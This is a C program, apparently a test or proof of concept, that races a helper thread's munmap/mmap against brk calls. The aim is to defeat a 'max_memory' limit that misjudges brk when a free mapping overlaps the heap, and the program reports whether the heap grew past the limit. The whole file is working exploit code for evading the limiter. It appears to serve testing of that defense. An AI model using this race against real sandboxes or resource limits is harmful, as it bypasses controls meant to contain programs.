/* Attack on max_memory's judging of brk: the kernel names [heap] any mapping that overlaps the
 * heap's range, however far it reaches. A read-only mapping (free: it is never judged) laid over
 * the heap and MIB beyond makes brk(to its end) look free; another thread unmaps it between the
 * judging and the kernel's brk, which then grows the heap by MIB.
 *
 *   heap_cross MIB TRIES
 *
 * Prints "grew G after T tries": G is 1 when the heap ever grew to the mapping's end (the
 * attack won), T the brk calls made. Exits 0 (1 on a setup failure). */
#define _GNU_SOURCE
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static uintptr_t heap_start;
static size_t size;
static volatile int started, stop;

static void* remapper(void* arg) {
    (void)arg;
    while (!started) {
    }
    while (!stop) {
        syscall(SYS_munmap, heap_start, size);
        syscall(SYS_mmap, heap_start, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    }
    return NULL;
}

int main(int argc, char** argv) {
    if (argc != 3) return 2;
    size = strtoull(argv[1], NULL, 10) << 20;
    const long tries = strtol(argv[2], NULL, 10);
    const long page = sysconf(_SC_PAGESIZE);
    /* A heap of one page, [start, start + page), then the free mapping over it and beyond. */
    heap_start = (uintptr_t)syscall(SYS_brk, 0);
    if ((uintptr_t)syscall(SYS_brk, heap_start + page) != heap_start + page) return 1;
    if ((uintptr_t)syscall(SYS_mmap, heap_start, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) !=
        heap_start)
        return 1;
    pthread_t thread;
    if (pthread_create(&thread, NULL, remapper, NULL) != 0) return 1;
    const uintptr_t goal = heap_start + size;
    int grew = 0;
    long tried = 0;
    started = 1;
    while (tried < tries && !grew) {
        ++tried;
        grew = (uintptr_t)syscall(SYS_brk, goal) == goal;
    }
    stop = 1;
    pthread_join(thread, NULL);
    printf("grew %d after %ld tries\n", grew, tried);
    return 0;
}
